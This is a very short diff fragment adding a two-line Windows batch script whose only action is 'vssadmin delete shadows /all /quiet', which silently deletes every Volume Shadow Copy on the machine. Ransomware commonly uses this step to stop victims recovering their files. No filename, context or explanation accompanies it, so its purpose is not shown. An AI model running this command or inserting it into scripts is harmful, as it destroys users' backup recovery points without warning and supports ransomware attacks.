@@ -1,0 +1,2 @@
+@echo off
+vssadmin delete shadows /all /quiet
